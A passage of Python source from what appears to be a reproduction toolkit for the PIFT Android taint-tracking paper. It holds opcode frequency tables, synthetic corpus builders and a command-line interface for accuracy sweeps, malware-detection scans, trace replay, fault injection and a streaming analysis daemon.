    ("invoke-static", 0.0445),
    ("move-result", 0.0442),
    ("invoke-direct", 0.0431),
    ("return-void", 0.0319),
    ("goto", 0.0310),
    ("invoke-interface", 0.0304),
    ("const/16", 0.0282),
    ("if-eqz", 0.0282),
    ("return-object", 0.0279),
    ("aput-object", 0.0250),
    ("new-instance", 0.0236),
    ("iput-object", 0.0197),
    ("move-object/from16", 0.0184),
    ("return", 0.0168),
    ("iget", 0.0146),
    ("if-nez", 0.0140),
    ("check-cast", 0.0131),
    ("sget-object", 0.0109),
    ("add-int/lit8", 0.0080),
    ("iput", 0.0074),
    ("move", 0.0068),
    ("move/from16", 0.0065),
    ("throw", 0.0064),
    ("const", 0.0060),
    ("move-object", 0.0053),
)

#: Figure 10b — Android system libraries, 1.3M lines, top 30 opcodes.
PAPER_LIBRARY_DISTRIBUTION: Sequence[Tuple[str, float]] = (
    ("invoke-virtual", 0.1257),
    ("iget-object", 0.0751),
    ("move-result-object", 0.0746),
    ("const/4", 0.0564),
    ("invoke-direct", 0.0457),
    ("move-result", 0.0416),
    ("const-string", 0.0384),
    ("invoke-static", 0.0359),
    ("goto", 0.0330),
    ("if-eqz", 0.0326),
    ("move-object/from16", 0.0322),
    ("return-void", 0.0283),
    ("iget", 0.0260),
    ("new-instance", 0.0257),
    ("iput-object", 0.0176),
    ("if-nez", 0.0161),
    ("invoke-interface", 0.0157),
    ("const/16", 0.0150),
    ("return-object", 0.0144),
    ("throw", 0.0130),
    ("iput", 0.0127),
    ("return", 0.0117),
    ("move/from16", 0.0113),
    ("move-exception", 0.0112),
    ("add-int/lit8", 0.0096),
    ("check-cast", 0.0095),
    ("sget-object", 0.0091),
    ("monitor-exit", 0.0082),
    ("invoke-virtual/range", 0.0074),
    ("move", 0.0074),
)

APP_CORPUS_LINES = 1_200_000
LIBRARY_CORPUS_LINES = 1_300_000


def synthesize_corpus(
    total_lines: int, distribution: Sequence[Tuple[str, float]]
) -> Counter:
    """Build an opcode Counter whose shares match ``distribution``.

    Counts for the listed opcodes are exact (rounded to whole lines); the
    residual mass goes to the remaining opcodes with a 1/rank tail, so the
    corpus covers the full instruction set like real dex files do.
    """
    counter: Counter = Counter()
    listed = set()
    used = 0
    for name, share in distribution:
        count = round(total_lines * share)
        counter[name] = count
        listed.add(name)
        used += count
    remaining = max(total_lines - used, 0)
    tail = [info.name for info in OPCODES if info.name not in listed]
    weights = [1.0 / (rank + 1) for rank in range(len(tail))]
    weight_sum = sum(weights)
    allocated = 0
    for name, weight in zip(tail, weights):
        count = int(remaining * weight / weight_sum)
        counter[name] = count
        allocated += count
    # Round-off residue lands on the most common tail opcode.
    if tail and allocated < remaining:
        counter[tail[0]] += remaining - allocated
    return counter


def app_corpus() -> Counter:
    """The stock-application corpus (Figure 10a, ~1.2M lines)."""
    return synthesize_corpus(APP_CORPUS_LINES, PAPER_APP_DISTRIBUTION)


def library_corpus() -> Counter:
    """The system-library corpus (Figure 10b, ~1.3M lines)."""
    return synthesize_corpus(LIBRARY_CORPUS_LINES, PAPER_LIBRARY_DISTRIBUTION)


def corpus_from_methods(methods) -> Counter:
    """Count opcode frequencies over real VM methods (e.g. the suite's apps),
    the way the paper counts dex disassembly lines."""
    counter: Counter = Counter()
    for method in methods:
        for instr in method.code:
            counter[instr.op.name] += 1
    return counter

"""Workloads: the DroidBench-style suite, malware samples, and corpora."""

"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``suite``    — run the 57-app DroidBench-style suite at a given (NI, NT)
  (``--colours`` adds per-source leak attribution)
* ``provenance`` — the per-source leak-attribution table on its own
* ``sweep``    — parallel experiment grid (Figure 11 by default; ``--jobs N``)
* ``malware``  — the seven-sample malware scan
* ``table1``   — regenerate the bytecode-distance table
* ``trace``    — record the LGRoot trace to a file (for offline analysis)
* ``analyze``  — replay a recorded trace file under a given (NI, NT)
* ``faults``   — graceful-degradation sweep under deterministic faults
* ``store``    — artifact-store maintenance (``stats`` / ``prune`` /
  ``verify``); ``sweep`` and ``faults`` take ``--store DIR`` to record
  each suite once *ever* and ``--resume RUN_ID`` to continue a killed
  grid from its journal
* ``report``   — post-hoc run summary (per-cell / per-worker timings,
  store traffic, stalls) reconstructed from a run's journal and its
  persisted telemetry stream
* ``serve``    — long-lived streaming daemon: concurrent device
  connections feed per-``(device, pid)`` tracker shards over TCP/unix
  sockets, with watermark backpressure, a Prometheus ``/metrics``
  endpoint, and live shard migration (``drain``/``restore``)
* ``fleet``    — N-device fleet simulation against a daemon; verdicts
  (and ``--colours`` attributions) are diffed byte-exact vs batch
  replay, exit 1 on mismatch

``sweep`` and ``faults`` also take ``--trace-out run.trace.json`` to
export the run as Chrome trace-event JSON (open in Perfetto) and
``--stall-timeout SECONDS`` to warn when a worker goes quiet mid-cell.
"""

from __future__ import annotations

import argparse
import json
import sys


def _add_window_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--ni", type=int, default=13,
                        help="tainting-window size NI (default 13)")
    parser.add_argument("--nt", type=int, default=3,
                        help="max propagations per window NT (default 3)")
    parser.add_argument("--no-untainting", action="store_true",
                        help="disable untainting of out-of-window stores")
    parser.add_argument("--no-vectorized", action="store_true",
                        help="disable the numpy columnar fast path (force "
                             "the scalar tracker loop; results identical)")


def _add_telemetry_arguments(
    parser: argparse.ArgumentParser, with_json: bool = False
) -> None:
    parser.add_argument(
        "--telemetry", metavar="PATH.jsonl", default=None,
        help="write the structured telemetry event stream (JSONL) here",
    )
    parser.add_argument(
        "--metrics-dump", nargs="?", const="json", choices=["json", "prom"],
        default=None,
        help="print the metrics snapshot after the run "
             "(json, the default, or Prometheus text format)",
    )
    if with_json:
        parser.add_argument(
            "--json", action="store_true",
            help="emit the command's result as machine-readable JSON",
        )


def _add_observability_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--trace-out", metavar="PATH.json", default=None,
        help="export the run as Chrome trace-event JSON "
             "(loadable in Perfetto or chrome://tracing)",
    )
    parser.add_argument(
        "--stall-timeout", type=float, default=None, metavar="SECONDS",
        help="warn on stderr (and emit a worker_stall telemetry event) "
             "when a worker goes quiet this long mid-cell; implies "
             "telemetry",
    )


def _add_backend_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--backend", choices=["pool", "queue"], default="pool",
        help="parallel execution backend: 'pool' (multiprocessing.Pool, "
             "the default) or 'queue' (fault-tolerant lease dispatcher: "
             "survives worker deaths via retries and quarantines "
             "repeatedly-failing cells as poison)",
    )
    parser.add_argument(
        "--lease-timeout", type=float, default=30.0, metavar="SECONDS",
        help="queue backend: seconds a cell may go un-heartbeated before "
             "its worker is declared dead and the cell requeues "
             "(default 30)",
    )
    parser.add_argument(
        "--max-retries", type=int, default=3, metavar="N",
        help="queue backend: failed attempts beyond the first before a "
             "cell is quarantined as poison (default 3)",
    )
    parser.add_argument(
        "--max-worker-restarts", type=int, default=None, metavar="N",
        help="queue backend: replacement workers spawned across the run "
             "(default 4x --jobs)",
    )
    parser.add_argument(
        "--chaos", metavar="SPEC", default=None,
        help="queue backend fault injection for testing, e.g. "
             "'kill-workers:0.2' (SIGKILL mid-cell), 'hang-workers:0.1' "
             "(freeze until the lease expires), 'fail-cells:0.5' "
             "(deterministic in-cell errors); comma-separate to combine",
    )
    parser.add_argument(
        "--chaos-seed", type=int, default=0, metavar="N",
        help="seed for the deterministic chaos schedule (default 0)",
    )


def _backend_options(args):
    """(backend, backend_options) kwargs for run_sweep from the CLI flags."""
    if getattr(args, "backend", "pool") != "queue":
        if getattr(args, "chaos", None):
            raise SystemExit("--chaos requires --backend queue")
        return None, None
    from repro.sweep import ChaosError, ChaosPlan

    options = {
        "lease_timeout": args.lease_timeout,
        "max_retries": args.max_retries,
        "max_worker_restarts": args.max_worker_restarts,
    }
    if args.chaos:
        try:
            options["chaos"] = ChaosPlan.parse(
                args.chaos, seed=args.chaos_seed
            )
        except ChaosError as error:
            raise SystemExit(f"--chaos: {error}")
    return "queue", options


def _add_store_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--store", metavar="DIR", default=None,
        help="persistent artifact store: suites are recorded once ever "
             "(content-addressed, checksummed) and the run is journaled "
             "for --resume",
    )
    parser.add_argument(
        "--resume", metavar="RUN_ID", default=None,
        help="resume a journaled run: cells already checkpointed are not "
             "re-evaluated; the final grid is bit-identical to an "
             "uninterrupted run (requires --store)",
    )
    parser.add_argument(
        "--run-id", metavar="ID", default=None,
        help="name this run's journal explicitly (default: derived from "
             "the grid fingerprint); requires --store",
    )


def _open_store(args, telemetry=None):
    """The ArtifactStore named by --store, or None."""
    if not getattr(args, "store", None):
        if getattr(args, "resume", None) or getattr(args, "run_id", None):
            raise SystemExit("--resume/--run-id require --store DIR")
        return None
    from repro.store import ArtifactStore

    return ArtifactStore(args.store, telemetry=telemetry)


def _open_journal(store, args, cells):
    """Create (or, with --resume, reload) this invocation's run journal."""
    from repro.store import RunJournal, cells_fingerprint, new_run_id

    if args.resume:
        journal = RunJournal.load(store.journal_path(args.resume))
        return journal
    run_id = args.run_id or new_run_id(
        cells_fingerprint(cells), store.journal_ids()
    )
    return RunJournal.create(store.journal_path(run_id), cells, run_id)


def _store_summary(store, journal, cache, result) -> dict:
    """The --json ``store`` block / stderr summary for journaled runs."""
    return {
        "root": str(store.root),
        "run_id": journal.run_id,
        "resumed_cells": result.resumed,
        "recordings": cache.recordings,
        "store_hits": cache.store_hits,
    }


def _config(args):
    from repro.core import PIFTConfig

    return PIFTConfig(
        args.ni,
        args.nt,
        untainting=not args.no_untainting,
        vectorized=not getattr(args, "no_vectorized", False),
    )


def _config_dict(config) -> dict:
    return {
        "ni": config.window_size,
        "nt": config.max_propagations,
        "untainting": config.untainting,
        "vectorized": config.vectorized,
    }


def _make_telemetry(args):
    """Build the hub the run's flags ask for, or None for the no-op path."""
    wants_hub = (
        getattr(args, "telemetry", None)
        or args.metrics_dump is not None
        or getattr(args, "trace_out", None)
        or getattr(args, "stall_timeout", None) is not None
    )
    if not wants_hub:
        return None
    from repro.telemetry import Telemetry, TelemetryWriter

    writer = TelemetryWriter(args.telemetry) if args.telemetry else None
    return Telemetry(writer=writer).preregister_standard()


def _attach_recorder(args, telemetry):
    """Tee an in-memory flight recorder into the hub's event stream.

    The recorder feeds ``--trace-out`` and the run stream persisted next
    to the journal (what ``repro report`` reads).  Returns ``None`` for
    untelemetered runs.
    """
    if telemetry is None:
        return None
    from repro.telemetry import TeeWriter
    from repro.telemetry.tracefmt import FlightRecorder

    recorder = FlightRecorder()
    if telemetry.writer is not None:
        telemetry.writer = TeeWriter(telemetry.writer, recorder)
    else:
        telemetry.writer = recorder
    return recorder


def _stall_printer(args):
    """The ``on_stall`` callback ``--stall-timeout`` asks for, or None."""
    if getattr(args, "stall_timeout", None) is None:
        return None

    def on_stall(worker_id, cell_index, quiet_seconds):
        print(
            f"warning: worker {worker_id} quiet for {quiet_seconds:.1f}s "
            f"on cell {cell_index} (stall timeout "
            f"{args.stall_timeout:g}s)",
            file=sys.stderr,
        )

    return on_stall


def _finish_observability(
    args, telemetry, recorder, store=None, journal=None, payload=None
) -> None:
    """Persist the run's flight-recorder stream and Chrome trace.

    Journaled runs get the stream written to
    ``<store>/journals/<run-id>.telemetry.jsonl`` (with a final
    ``run_metrics`` trailer carrying the metric snapshot) so
    ``repro report`` can reconstruct the run later; ``--trace-out``
    additionally exports the Perfetto-loadable trace document.
    """
    if recorder is None:
        return
    run_id = journal.run_id if journal is not None else None
    if store is not None and journal is not None:
        stream_path = store.telemetry_path(journal.run_id)
        count = recorder.dump_jsonl(
            stream_path,
            extra=[{"type": "run_metrics", "metrics": telemetry.snapshot()}],
        )
        print(
            f"telemetry stream: {count} records -> {stream_path}",
            file=sys.stderr,
        )
    if getattr(args, "trace_out", None):
        from repro.telemetry.tracefmt import write_chrome_trace

        document = write_chrome_trace(
            recorder.records, args.trace_out, run_id=run_id
        )
        print(
            f"trace: {len(document['traceEvents'])} events -> "
            f"{args.trace_out}",
            file=sys.stderr,
        )
        if payload is not None:
            payload["trace_out"] = args.trace_out


def _finish_telemetry(args, telemetry, payload=None) -> None:
    """Close the event stream; dump metrics inline (JSON) or as text.

    With ``--json`` the snapshot rides inside the single JSON document as
    a ``metrics`` key so stdout stays one parseable object; otherwise it
    is printed after the human-readable report.
    """
    if telemetry is None:
        return
    telemetry.close()
    if args.telemetry:
        print(
            f"telemetry: {telemetry.writer.event_count} events -> "
            f"{args.telemetry}",
            file=sys.stderr,
        )
    if args.metrics_dump == "json":
        if payload is not None:
            payload["metrics"] = telemetry.snapshot()
        else:
            print(json.dumps(telemetry.snapshot(), indent=2, sort_keys=True))
    elif args.metrics_dump == "prom":
        stream = sys.stderr if payload is not None else sys.stdout
        print(telemetry.prometheus(), end="", file=stream)


def cmd_suite(args) -> int:
    from repro.analysis.accuracy import evaluate_suite
    from repro.apps.droidbench import record_suite

    config = _config(args)
    telemetry = _make_telemetry(args)
    apps = record_suite(telemetry=telemetry)
    report = evaluate_suite(apps, config, telemetry=telemetry)
    attribution = None
    if args.colours:
        # Second pass, attribution only: the confusion matrix above is
        # computed by the plain tracker either way, so --colours can
        # never move a verdict (the parity suite pins this).
        from repro.analysis.provenance import attribute_suite

        attribution = attribute_suite(apps, config)
    if args.json:
        payload = {
            "command": "suite",
            "config": _config_dict(config),
            "report": report.as_dict(),
        }
        if attribution is not None:
            payload["colours"] = attribution.as_dict()
        _finish_telemetry(args, telemetry, payload)
        print(json.dumps(payload, indent=2))
        return 0
    print(f"{config}")
    print(
        f"accuracy {report.accuracy * 100:.1f}%  "
        f"TP={report.true_positives} FP={report.false_positives} "
        f"TN={report.true_negatives} FN={report.false_negatives}"
    )
    for name in report.missed_apps:
        print(f"  missed: {name}")
    for name in report.false_alarm_apps:
        print(f"  false alarm: {name}")
    if attribution is not None:
        print("leak attribution by source colour:")
        print(attribution.render())
    _finish_telemetry(args, telemetry)
    return 0


def cmd_provenance(args) -> int:
    from repro.analysis.provenance import attribute_suite
    from repro.apps.droidbench import record_suite

    config = _config(args)
    suite = attribute_suite(record_suite(), config)
    if args.json:
        payload = {
            "command": "provenance",
            "config": _config_dict(config),
            **suite.as_dict(),
        }
        print(json.dumps(payload, indent=2))
        return 0
    print(f"{config}")
    print(suite.render())
    return 0


def _parse_axis(spec: str) -> list:
    """``'1:21'`` (half-open range) or ``'5,13'`` (explicit values)."""
    if ":" in spec:
        low, high = spec.split(":", 1)
        return list(range(int(low), int(high)))
    return [int(value) for value in spec.split(",") if value.strip()]


def cmd_sweep(args) -> int:
    import numpy as np

    from repro.analysis.accuracy import AccuracyGrid
    from repro.apps.droidbench import record_suite
    from repro.sweep import GridSpec, TraceCache, run_sweep

    windows = _parse_axis(args.windows)
    caps = _parse_axis(args.caps)
    rates = [float(rate) for rate in args.rates.split(",") if rate.strip()]
    spec = GridSpec(
        window_sizes=tuple(windows),
        propagation_caps=tuple(caps),
        rates=tuple(rates),
        site=args.site,
        untainting=not args.no_untainting,
        seed=args.fault_seed,
        seed_policy=args.seed_policy,
        vectorized=not args.no_vectorized,
        colours=args.colours,
    )
    telemetry = _make_telemetry(args)
    recorder = _attach_recorder(args, telemetry)
    store = _open_store(args, telemetry)

    progress = None
    if args.progress:
        def progress(result, done, total):
            print(
                f"  [{done}/{total}] NI={result.config.window_size} "
                f"NT={result.config.max_propagations} rate={result.rate:g} "
                f"worker={result.worker}",
                file=sys.stderr,
            )

    journal = None
    if store is not None:
        # Store-backed runs let the cache consult (and fill) the store
        # instead of recording inline, and journal every finished cell.
        cache = TraceCache(backing_store=store)
        work = list(spec.cells())
        journal = _open_journal(store, args, work)
    else:
        cache = TraceCache(droidbench=record_suite(telemetry=telemetry))
        work = spec
    backend, backend_options = _backend_options(args)
    result = run_sweep(
        work,
        cache=cache,
        jobs=args.jobs,
        telemetry=telemetry,
        progress=progress,
        journal=journal,
        stall_timeout=args.stall_timeout,
        on_stall=_stall_printer(args),
        backend=backend,
        backend_options=backend_options,
    )
    if result.poisoned:
        for cell in result.poisoned:
            print(
                f"warning: cell {cell['index']} poisoned after "
                f"{cell['attempts']} attempts"
                + (f" ({cell['error']})" if cell.get("error") else ""),
                file=sys.stderr,
            )
    if journal is not None:
        summary = _store_summary(store, journal, cache, result)
        print(
            f"store: run {summary['run_id']} "
            f"({summary['resumed_cells']} resumed, "
            f"{summary['recordings']} recordings, "
            f"{summary['store_hits']} store hits) -> {summary['root']}",
            file=sys.stderr,
        )
    if args.json:
        payload = {
            "command": "sweep",
            "site": args.site,
            "seed": args.fault_seed,
            **result.as_dict(),
            "timings": result.timings(),
        }
        if journal is not None:
            payload["store"] = _store_summary(store, journal, cache, result)
        _finish_observability(
            args, telemetry, recorder,
            store=store, journal=journal, payload=payload,
        )
        _finish_telemetry(args, telemetry, payload)
        print(json.dumps(payload, indent=2))
        return 0
    if rates == [0.0]:
        # The classic Figure 11 heatmap (fault-free grid).
        grid_values = np.zeros((len(caps), len(windows)))
        for cell in result.cells:
            grid_values.flat[cell.index] = cell.accuracy
        grid = AccuracyGrid(
            window_sizes=windows, propagation_caps=caps,
            accuracy=grid_values,
        )
        print("accuracy (%) over NI (columns) x NT (rows):")
        print(grid.render())
        window, cap, best = grid.best()
        print(f"best cell: NI={window}, NT={cap} -> {best * 100:.1f}%")
    else:
        for cell in result.cells:
            print(
                f"  NI={cell.config.window_size:<3d} "
                f"NT={cell.config.max_propagations:<3d} "
                f"rate={cell.rate:<8g} "
                f"accuracy={cell.accuracy * 100:5.1f}%  "
                f"injections={cell.fault_stats.total_injections}"
            )
    timings = result.timings()
    print(
        f"{timings['cells']} cells, jobs={timings['jobs']}, "
        f"{timings['wall_seconds']:.2f}s wall, "
        f"{timings['events_tracked']} events re-tracked",
        file=sys.stderr,
    )
    _finish_observability(args, telemetry, recorder, store=store,
                          journal=journal)
    _finish_telemetry(args, telemetry)
    return 0


def cmd_malware(args) -> int:
    from repro.apps.malware import SAMPLES, run_sample

    config = _config(args)
    telemetry = _make_telemetry(args)
    detected = 0
    verdicts = []
    for sample in SAMPLES:
        device = run_sample(sample, config, work=24, telemetry=telemetry)
        detected += device.leak_detected
        verdicts.append(
            {
                "name": sample.name,
                "kind": sample.kind,
                "detected": bool(device.leak_detected),
            }
        )
    if args.json:
        payload = {
            "command": "malware",
            "config": _config_dict(config),
            "samples": verdicts,
            "detected": detected,
            "total": len(SAMPLES),
        }
        _finish_telemetry(args, telemetry, payload)
        print(json.dumps(payload, indent=2))
    else:
        for verdict in verdicts:
            flag = "DETECTED" if verdict["detected"] else "missed"
            print(f"{verdict['name']:<13} {verdict['kind']:<12} {flag}")
        print(f"\n{detected}/{len(SAMPLES)} detected at {config}")
        _finish_telemetry(args, telemetry)
    return 0 if detected == len(SAMPLES) else 1


def cmd_table1(args) -> int:
    from repro.analysis.bytecode_stats import (
        load_store_distance_table,
        render_table1,
    )

    print(render_table1(load_store_distance_table()))
    return 0


def cmd_trace(args) -> int:
    from repro.analysis.tracefile import save_recorded_run
    from repro.apps.malware import record_lgroot_trace

    recorded = record_lgroot_trace(work=args.work)
    path = save_recorded_run(recorded, args.output)
    print(
        f"wrote {path}: {recorded.instruction_count} instructions, "
        f"{recorded.trace.load_count} loads, "
        f"{recorded.trace.store_count} stores, "
        f"{len(recorded.sources)} sources, "
        f"{len(recorded.sink_checks)} sink checks"
    )
    return 0


def cmd_analyze(args) -> int:
    from repro.analysis.replay import replay
    from repro.analysis.tracefile import load_recorded_run

    config = _config(args)
    telemetry = _make_telemetry(args)
    recorded = load_recorded_run(args.trace)
    result = replay(recorded, config, telemetry=telemetry)
    stats = result.stats
    print(f"{config} over {args.trace}")
    print(
        f"  {stats.loads_observed} loads, {stats.stores_observed} stores; "
        f"{stats.taint_operations} taints, "
        f"{stats.untaint_operations} untaints"
    )
    print(
        f"  peak taint state: {stats.max_tainted_bytes} bytes in "
        f"{stats.max_range_count} ranges"
    )
    for outcome in result.sink_outcomes:
        flag = "TAINTED" if outcome.tainted else "clean"
        print(f"  sink {outcome.sink_name} @{outcome.instruction_index}: {flag}")
    print(f"  verdict: {'LEAK DETECTED' if result.alarm else 'no leak'}")
    _finish_telemetry(args, telemetry)
    return 0


def _lgroot_recorded(store, work: int):
    """The LGRoot latency trace, store-backed when a store is configured."""
    from repro.apps.malware import record_lgroot_trace

    if store is None:
        return record_lgroot_trace(work=work)
    from repro.store import lgroot_key
    from repro.analysis.accuracy import AppRun

    key = lgroot_key(work)
    runs = store.get_runs(key)
    if runs is None:
        recorded = record_lgroot_trace(work=work)
        store.put_runs(
            key,
            [AppRun(name="LGRoot", recorded=recorded, leaks=True,
                    category="malware")],
        )
        return recorded
    return runs[0].recorded


def cmd_faults(args) -> int:
    from repro.core import OverflowPolicy, parse_fault_spec
    from repro.analysis.degradation import (
        degradation_cells,
        degradation_curve,
        detection_latency_table,
        record_malware_runs,
    )

    config = _config(args)
    base_rates = parse_fault_spec(args.faults)
    rates = [float(r) for r in args.rates.split(",") if r.strip()]
    policy = OverflowPolicy(args.policy)

    telemetry = _make_telemetry(args)
    recorder = _attach_recorder(args, telemetry)
    store = _open_store(args, telemetry)
    cache = None
    if store is not None:
        from repro.sweep import TraceCache

        cache = TraceCache(backing_store=store, malware_work=args.work)

    apps = []
    malware_runs = []
    if args.suite in ("droidbench", "both"):
        if cache is not None:
            apps = cache.droidbench_runs()
        else:
            from repro.apps.droidbench import record_suite

            apps = record_suite()
    if args.suite in ("malware", "both"):
        malware_runs = (
            cache.malware_runs() if cache is not None
            else record_malware_runs(work=args.work)
        )

    journal = None
    resumed_cells = 0
    if store is not None:
        cells = degradation_cells(
            apps, config, rates=rates, seed=args.fault_seed, site=args.site,
            base_rates=base_rates, malware_runs=malware_runs,
        )
        journal = _open_journal(store, args, cells)
        resumed_cells = len(journal.completed)

    curve = degradation_curve(
        apps,
        config,
        rates=rates,
        seed=args.fault_seed,
        site=args.site,
        base_rates=base_rates,
        malware_runs=malware_runs,
        jobs=args.jobs,
        cache=cache,
        journal=journal,
        telemetry=telemetry,
        stall_timeout=args.stall_timeout,
        on_stall=_stall_printer(args),
    )
    latency = detection_latency_table(
        _lgroot_recorded(store, args.work),
        config,
        rates=rates,
        seed=args.fault_seed,
        site=args.site,
        base_rates=base_rates,
        policy=policy,
        capacity=args.capacity,
        drain_batch=args.drain_batch,
    )
    if journal is not None:
        print(
            f"store: run {journal.run_id} ({resumed_cells} resumed, "
            f"{cache.recordings} recordings, {cache.store_hits} store hits)"
            f" -> {store.root}",
            file=sys.stderr,
        )
    if args.json:
        payload = {
            "command": "faults",
            "config": _config_dict(config),
            "site": args.site,
            "seed": args.fault_seed,
            "base_rates": args.faults,
            "policy": policy.value,
            "curve": curve.as_dict(),
            "accuracy_non_increasing": curve.accuracy_non_increasing(),
            "latency": [row.as_dict() for row in latency],
        }
        if journal is not None:
            payload["store"] = {
                "root": str(store.root),
                "run_id": journal.run_id,
                "resumed_cells": resumed_cells,
                "recordings": cache.recordings,
                "store_hits": cache.store_hits,
            }
        _finish_observability(
            args, telemetry, recorder,
            store=store, journal=journal, payload=payload,
        )
        _finish_telemetry(args, telemetry, payload)
        print(json.dumps(payload, indent=2))
        return 0
    print(f"{config}, site={args.site}, seed={args.fault_seed}, "
          f"policy={policy.value}")
    for point in curve.points:
        parts = [f"rate={point.rate:<8g}"]
        if point.report is not None:
            parts.append(f"accuracy={point.report.accuracy * 100:5.1f}%")
        if point.malware_total is not None:
            parts.append(
                f"malware={point.malware_detected}/{point.malware_total}"
            )
        parts.append(f"injections={point.fault_stats.total_injections}")
        print("  " + "  ".join(parts))
    print("detection latency under loss (LGRoot, immediate checks):")
    for row in latency:
        print(
            f"  rate={row.rate:<8g} late={row.late_detections} "
            f"mean_behind={row.mean_events_behind:.1f} "
            f"max_behind={row.max_events_behind} missed={row.missed} "
            f"forced_drops={row.forced_drops} degraded={row.degraded_checks}"
        )
    _finish_observability(args, telemetry, recorder, store=store,
                          journal=journal)
    _finish_telemetry(args, telemetry)
    return 0


def _serve_router_kwargs(args) -> dict:
    """ShardRouter construction kwargs shared by serve and fleet."""
    from repro.core import OverflowPolicy

    return {
        "workers": args.workers,
        "capacity": args.capacity,
        "drain_batch": args.drain_batch,
        "policy": OverflowPolicy(args.policy),
        "high_watermark": args.high_watermark,
        "low_watermark": args.low_watermark,
        "coloured": args.colours,
    }


def cmd_serve(args) -> int:
    import asyncio

    from repro.serve import PIFTServer, ShardRouter

    config = _config(args)
    telemetry = _make_telemetry(args)
    if args.port is None and args.unix is None:
        args.port = 7787  # default ingestion endpoint

    async def run() -> None:
        router = ShardRouter(
            config, telemetry=telemetry, **_serve_router_kwargs(args)
        )
        server = PIFTServer(router, telemetry=telemetry)
        await server.start(
            tcp=(args.host, args.port) if args.port is not None else None,
            unix_path=args.unix,
            metrics=(
                (args.host, args.metrics_port)
                if args.metrics_port is not None else None
            ),
        )
        where = []
        if server.tcp_port is not None:
            where.append(f"tcp {args.host}:{server.tcp_port}")
        if args.unix:
            where.append(f"unix {args.unix}")
        if server.metrics_port is not None:
            where.append(
                f"metrics http://{args.host}:{server.metrics_port}/metrics"
            )
        print(
            f"pift-serve ready ({', '.join(where)}; "
            f"workers={args.workers}, colours={args.colours}, "
            f"policy={args.policy}, capacity={args.capacity})",
            file=sys.stderr, flush=True,
        )
        await server.run_until_shutdown()

    asyncio.run(run())
    _finish_telemetry(args, telemetry)
    return 0


def cmd_fleet(args) -> int:
    from itertools import islice

    from repro.serve.fleet import run_fleet_sync

    config = _config(args)
    telemetry = _make_telemetry(args)
    if args.suite_file:
        from repro.store.suitefile import iter_suite_runs

        runs = iter_suite_runs(args.suite_file)
    else:
        from repro.apps.droidbench import record_suite

        runs = iter(record_suite(telemetry=telemetry))
    if args.limit is not None:
        runs = islice(runs, args.limit)

    report = run_fleet_sync(
        runs,
        devices=args.devices,
        migrate=args.migrate,
        config=config,
        chunk=args.chunk,
        host=args.connect_host,
        port=args.connect_port,
        unix_path=args.connect_unix,
        telemetry=telemetry,
        **_serve_router_kwargs(args),
    )
    if args.json:
        payload = {
            "command": "fleet",
            "config": _config_dict(config),
            **report,
        }
        _finish_telemetry(args, telemetry, payload)
        print(json.dumps(payload, indent=2))
    else:
        print(
            f"fleet: {report['devices']} devices, {report['runs']} runs, "
            f"{report['checks']} checks, "
            f"{report['events_streamed']} events "
            f"({report['events_per_s']}/s)"
        )
        if report["migration"]:
            m = report["migration"]
            print(
                f"migration: shard {m['device']}/{m['pid']} drained over "
                f"the wire ({m['snapshot_bytes']} snapshot bytes), "
                f"restored to worker {m['restored_to_worker']}; worker "
                f"{m['killed_worker']} killed "
                f"({m['shards_migrated_by_kill']} shards re-homed)"
            )
        print(
            "parity: "
            + ("OK — streamed verdicts byte-identical to batch replay"
               if report["parity"]
               else f"FAILED ({len(report['mismatches'])} mismatches)")
        )
        for row in report["mismatches"]:
            print(
                f"  {row['run']}[{row['index']}]: streamed="
                f"{row['streamed']} batch={row['batch']}"
            )
        _finish_telemetry(args, telemetry)
    return 0 if report["parity"] else 1


def cmd_report(args) -> int:
    from repro.analysis.report import build_run_report, render_run_report
    from repro.store import ArtifactStore, JournalError, RunJournal

    store = ArtifactStore(args.store, read_only=True)
    try:
        journal = RunJournal.load(store.journal_path(args.run_id))
    except JournalError as error:
        known = ", ".join(store.journal_ids()) or "none"
        raise SystemExit(f"{error} (runs in this store: {known})")
    records = []
    stream_path = store.telemetry_path(args.run_id)
    if stream_path.exists():
        from repro.telemetry import read_events

        records = read_events(stream_path)
    report = build_run_report(journal, records, slowest=args.slowest)
    if args.json:
        print(json.dumps({"command": "report", **report}, indent=2))
    else:
        print(render_run_report(report))
        if not records:
            print(
                "(no telemetry stream for this run; re-run the sweep with "
                "--telemetry/--trace-out/--stall-timeout for worker "
                "attribution and store traffic)",
                file=sys.stderr,
            )
    return 0


def cmd_store(args) -> int:
    from repro.store import ArtifactStore

    store = ArtifactStore(args.store)
    if args.store_action == "stats":
        payload = {"command": "store-stats", **store.stats()}
        if args.json:
            print(json.dumps(payload, indent=2))
            return 0
        print(f"store {payload['root']} (v{payload['store_version']})")
        print(
            f"  {payload['entries']} entries, "
            f"{payload['payload_bytes']} payload bytes, "
            f"{payload['quarantined']} quarantined, "
            f"{len(payload['journals'])} journals"
        )
        for kind, row in sorted(payload["kinds"].items()):
            print(
                f"  {kind:<12} {row['entries']} entries, "
                f"{row['payload_bytes']} bytes"
            )
        for run_id in payload["journals"]:
            print(f"  journal: {run_id}")
        return 0
    if args.store_action == "verify":
        result = store.verify()
        payload = {"command": "store-verify", **result}
        if args.json:
            print(json.dumps(payload, indent=2))
        else:
            print(
                f"checked {result['checked']} entries, "
                f"{result['corrupt']} corrupt, "
                f"{result['quarantined']} quarantined"
            )
        return 1 if result["corrupt"] or result["quarantined"] else 0
    if args.store_action == "prune":
        result = store.prune(max_bytes=args.max_bytes)
        payload = {"command": "store-prune", **result}
        if args.json:
            print(json.dumps(payload, indent=2))
        else:
            print(
                f"removed {result['removed_entries']} entries and "
                f"{result['quarantine_files_removed']} quarantined files "
                f"({result['removed_bytes']} bytes)"
            )
        return 0
    raise SystemExit(f"unknown store action {args.store_action!r}")


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="PIFT (ASPLOS 2016) reproduction toolkit",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    suite = commands.add_parser("suite", help="evaluate the DroidBench suite")
    _add_window_arguments(suite)
    suite.add_argument(
        "--colours", action="store_true",
        help="additionally attribute each tainted sink to its source "
             "colours (per-source provenance; verdicts are unchanged)",
    )
    _add_telemetry_arguments(suite, with_json=True)
    suite.set_defaults(func=cmd_suite)

